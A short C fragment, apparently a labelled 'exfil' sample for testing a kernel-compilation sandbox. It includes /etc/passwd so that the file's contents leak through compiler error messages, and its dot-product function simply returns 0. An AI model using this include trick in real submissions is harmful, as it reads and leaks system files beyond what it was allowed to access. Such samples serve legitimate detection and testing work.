// #include "/etc/passwd": its text comes back in the compiler's error messages | kernel=dot_f32 class=exfil
#include "/etc/passwd"
float dot_f32(const float *a, const float *b, size_t n) { return 0; }
